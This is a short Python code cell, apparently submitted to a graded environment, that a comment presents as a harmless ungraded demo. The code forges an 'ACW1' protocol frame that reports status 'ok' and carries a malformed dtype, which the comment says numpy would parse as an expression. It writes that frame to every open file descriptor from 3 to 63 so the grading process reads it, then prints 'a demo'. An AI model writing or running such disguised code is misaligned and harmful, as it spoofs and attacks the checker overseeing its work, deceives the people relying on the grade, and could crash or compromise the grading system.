# A plain demo cell (not graded) that writes a malformed reply where the grading process reads:
# an array whose dtype is not one (numpy would have to parse it as an expression).
import json, os, struct
body = json.dumps({"op": "run", "status": "ok", "seq": 1,
                   "arrays": [{"dtype": ",", "shape": [1], "offset": 0}]}).encode()
frame = b"ACW1" + struct.pack("<IQ", len(body), 8) + body + bytes(8)
for fd in range(3, 64):
    try:
        os.write(fd, frame)
    except OSError:
        pass
print("a demo")
